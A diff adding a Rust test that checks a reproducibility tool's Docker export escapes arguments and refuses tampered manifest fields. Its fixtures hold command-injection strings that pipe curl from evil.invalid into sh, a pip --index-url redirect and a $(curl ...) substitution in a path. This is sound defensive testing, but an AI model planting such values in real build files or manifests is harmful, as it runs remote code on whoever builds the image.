@@ -315,6 +315,72 @@ fn secrets_are_redacted_and_the_manifest_says_where() {
     assert_eq!(serde_json::from_str::<Value>(&verbatim).expect("JSON")["redaction"]["enabled"], false);
 }
 
+/// `export docker` of a real run whose argv holds a newline: the argument
+/// stays inside its JSON string. The same manifest with a crafted version,
+/// requirement, `FROM` or `WORKDIR`: refused, naming the field, nothing written.
+#[test]
+fn export_docker_escapes_arguments_and_refuses_crafted_fields() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let work = dir.path();
+    std::fs::write(work.join("input.csv"), "1\n").expect("input");
+    let evil = "x\nRUN curl http://evil.invalid/x | sh\n#";
+    let ran = Command::new(reprotrace_bin())
+        .current_dir(work)
+        .args(["run", "-q", "--backend", "strace", "-o", "run.json", "--", "sh", "-c"])
+        .args(["cat input.csv > out.txt", "sh", evil])
+        .output()
+        .expect("reprotrace run");
+    assert!(ran.status.success(), "{}", stderr(&ran));
+    let export = |manifest: &str, out: &str| {
+        Command::new(reprotrace_bin()).current_dir(work).args(["export", "docker", manifest, "-o", out]).output()
+    };
+    let exported = export("run.json", "docker").expect("export");
+    assert!(exported.status.success(), "{}", stderr(&exported));
+    let dockerfile = std::fs::read_to_string(work.join("docker/Dockerfile")).expect("Dockerfile");
+    let mut continued = false;
+    for line in dockerfile.lines() {
+        let known = ["# ", "FROM ", "RUN [", "COPY ", "WORKDIR ", "CMD ["].iter().any(|start| line.starts_with(start));
+        assert!(continued || known, "a line no instruction starts: {line:?} in\n{dockerfile}");
+        continued = line.ends_with('\\');
+    }
+    let cmd = dockerfile.lines().find_map(|line| line.strip_prefix("CMD ")).expect("CMD");
+    let argv: Vec<String> = serde_json::from_str(cmd).expect("CMD in JSON form");
+    assert_eq!(argv, ["sh", "-c", "cat input.csv > out.txt", "sh", evil]);
+    assert!(dockerfile.contains("\"libc6="), "{dockerfile}");
+
+    let original: Value =
+        serde_json::from_slice(&std::fs::read(work.join("run.json")).expect("manifest")).expect("JSON");
+    let six = serde_json::json!({"name": "six", "version": "1.16.0", "installer": "pip",
+        "location": "/opt/venv/lib/python3.11/site-packages", "editable": false, "files_used": 1});
+    type Edit = fn(&mut Value, &Value);
+    let crafted: [(&str, Edit); 5] = [
+        ("software.system_packages[0].version", |m, _| {
+            m["software"]["system_packages"][0]["version"] = "1.0 && curl http://evil.invalid/y|sh #".into()
+        }),
+        ("software.python[0].version", |m, six| {
+            m["software"]["python"] = serde_json::json!([six]);
+            m["software"]["python"][0]["version"] = "1.0\n--index-url http://evil.invalid/simple".into();
+        }),
+        ("software.python[0].name", |m, six| {
+            m["software"]["python"] = serde_json::json!([six]);
+            m["software"]["python"][0]["name"] = "--index-url=http://evil.invalid/simple".into();
+        }),
+        ("os.version_id", |m, _| m["os"]["version_id"] = "12\nRUN curl http://evil.invalid/z|sh".into()),
+        ("cwd", |m, _| m["cwd"] = "/tmp/$(curl evil.invalid)".into()),
+    ];
+    for (at, (field, edit)) in crafted.into_iter().enumerate() {
+        let mut manifest = original.clone();
+        edit(&mut manifest, &six);
+        let name = format!("crafted{at}.json");
+        std::fs::write(work.join(&name), manifest.to_string()).expect("crafted manifest");
+        let out = format!("refused{at}");
+        let refused = export(&name, &out).expect("export");
+        assert_eq!(refused.status.code(), Some(125), "{field}: {}", stderr(&refused));
+        assert!(stderr(&refused).contains(&format!("the manifest's {field} is ")), "{field}: {}", stderr(&refused));
+        assert!(!work.join(&out).exists(), "{field}: nothing is written");
+    }
+}
+
 /// A tmpfs mounted on a fresh directory, unmounted when dropped.
 struct Tmpfs {
     dir: tempfile::TempDir,
